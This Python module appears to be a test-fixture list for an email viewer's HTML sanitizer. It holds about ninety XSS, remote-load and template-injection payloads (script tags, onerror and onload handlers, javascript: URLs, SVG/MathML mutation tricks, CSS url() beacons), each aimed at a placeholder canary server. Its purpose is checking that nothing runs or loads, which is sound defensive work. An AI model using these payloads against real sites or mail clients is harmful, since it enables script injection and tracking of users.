"""What strangers write so that it runs, or loads something, where their mail is shown.

`HACK` stands for a script that leaves a mark (`window.hacked`, and a dialog), `CANARY` for the address of a server that
must hear nothing.
"""

from __future__ import annotations

from typing import Final

MARK: Final = "window.hacked=1;alert(1)"

# Written by hand: elements, handlers, URLs, ways out of attributes, of elements and of comments, templates, styles.
_SCRIPTS: Final = (
    "<script>HACK</script>",
    "<ScRiPt >HACK</sCrIpT>",
    "<script src=CANARY/s.js></script>",
    "<script type=module>HACK</script>",
    "<script\x0c>HACK</script\x0c>",
    "<scr<script>ipt>HACK</scr</script>ipt>",
    "<img src=x onerror=HACK>",
    "<img src=CANARY/i.png onload=HACK onerror=HACK>",
    "<img/src=x/onerror=HACK>",
    "<img src='x' onerror='HACK'>",
    '<img """><script>HACK</script>">',
    "<svg onload=HACK>",
    "<svg><script>HACK</script></svg>",
    "<svg><animate onbegin=HACK attributeName=x dur=1s>",
    "<svg><image href=CANARY/svg.png /></svg>",
    "<svg><a xlink:href='javascript:HACK'><text x=20 y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.HACK</script>'></iframe></foreignObject></svg>",
    "<svg><use href='CANARY/u.svg#x'/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=HACK></style></mglyph></table></mtext></math>",
    "<math><maction actiontype='statusline#CANARY' xlink:href='javascript:HACK'>x</maction></math>",
    "<body onload=HACK>",
    "<iframe src='javascript:parent.HACK'></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.HACK&lt;/script&gt;'></iframe>",
    "<iframe src=CANARY/frame></iframe>",
    "<frameset onload=HACK><frame src=CANARY/f></frameset>",
    "<object data='javascript:HACK'></object>",
    "<object data=CANARY/o type=text/html></object>",
    "<embed src=CANARY/e.swf>",
    "<embed src='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>",
    "<applet code=x archive=CANARY/a.jar></applet>",
    "<video poster=CANARY/p.png><source onerror=HACK src=CANARY/v.mp4></video>",
    "<audio src=CANARY/a.mp3 onerror=HACK autoplay>",
    "<details open ontoggle=HACK>x</details>",
    "<input autofocus onfocus=HACK>",
    "<select autofocus onfocus=HACK><option>x</select>",
    "<textarea autofocus onfocus=HACK></textarea>",
    "<marquee onstart=HACK>x</marquee>",
    "<a href='javascript:HACK' autofocus onfocus=HACK>x</a>",
    "<a href='java\tscript:HACK'>x</a>",
    "<a href='&#106;avascript:HACK'>x</a>",
    "<a href=\"vbscript:msgbox(1)\" style='animation:x 1s' onanimationstart=HACK>x</a>",
    "<form action='javascript:HACK'><input type=submit id=forms></form>",
    "<form action=CANARY/form><button autofocus formaction='javascript:HACK'>x</button></form>",
    "<isindex action='javascript:HACK' type=image>",
    "<base href=CANARY/base/><img src=relative.png>",
    "<meta http-equiv=refresh content='0;url=CANARY/meta'>",
    '<meta http-equiv=refresh content="0;url=javascript:HACK">',
    "<meta http-equiv='Content-Security-Policy' content=\"script-src 'unsafe-inline'\"><script>HACK</script>",
    "<link rel=stylesheet href=CANARY/l.css>",
    "<link rel=prefetch href=CANARY/pre><link rel=dns-prefetch href=CANARY><link rel=preconnect href=CANARY>",
    "<link rel=import href=CANARY/import.html>",
    "<style>@import url(CANARY/s.css);body{background:url(CANARY/bg.png)}</style>",
    "<style>@font-face{font-family:x;src:url(CANARY/f.woff)}*{font-family:x}</style>",
    '<div style="background:url(CANARY/d.png)">x</div>',
    "<div style=\"background:\\75rl('CANARY/esc.png')\">x</div>",
    '<div style="width:expression(HACK)">x</div>',
    "<p style='list-style-image:url(CANARY/li.png);content:url(CANARY/c.png);cursor:url(CANARY/cur.png),auto'>x</p>",
    "<table background=CANARY/t.png><tr><td background=CANARY/td.png>x</table>",
    "<img srcset='CANARY/set.png 1x' src='CANARY/src.png'>",
    "<picture><source srcset=CANARY/pic.png><img src=data:x></picture>",
    "<input type=image src=CANARY/input.png>",
    "<!--><img src=x onerror=HACK>-->",
    "<!-- --!><script>HACK</script><!-- -->",
    "<![CDATA[<script>HACK</script>]]>",
    "<?xml version='1.0'?><?import namespace='x' implementation='CANARY/x'?>",
    "<title></title><script>HACK</script>",
    "</title></style></textarea></noscript></template></xmp><script>HACK</script>",
    '<noscript><p title="</noscript><img src=x onerror=HACK>">',
    "<template><script>HACK</script></template><template shadowrootmode=open><script>HACK</script></template>",
    '<xmp><p title="</xmp><svg/onload=HACK>">',
    "<plaintext/onmouseover=HACK>",
    '"><script>HACK</script>',
    "'><img src=x onerror=HACK>",
    '" onfocus=HACK autofocus tabindex=0 x="',
    "' onmouseover='HACK' style='position:fixed;inset:0' x='",
    "`><script>HACK</script>",
    "javascript:HACK//",
    "{{constructor.constructor('HACK')()}}",
    "{{ self.__init__.__globals__ }}{% for x in ().__class__.__base__.__subclasses__() %}HACK{% endfor %}",
    "${HACK}#{HACK}<%= HACK %>",
    "\u202e<script>HACK</script>\u202c",
    "<img src=x onerror\u2028=\u2028HACK>",
    "\uff1cscript\uff1eHACK\uff1c/script\uff1e",
    "&lt;img src=x onerror=HACK&gt;",
    "&#60;script&#62;HACK&#60;/script&#62;",
    "data:text/html,<script>HACK</script>",
    "%3Cscript%3EHACK%3C/script%3E",
    "-->]]>*/</script><script>HACK</script>",
)


def all_of(canary: str) -> list[str]:
    """Every vector, aimed at this server."""
    return [vector.replace("HACK", MARK).replace("CANARY", canary) for vector in _SCRIPTS]


def in_a_header(vector: str) -> str:
    """On one line, as a header can have it."""
    return " ".join("".join(c if c.isprintable() else " " for c in vector).split())
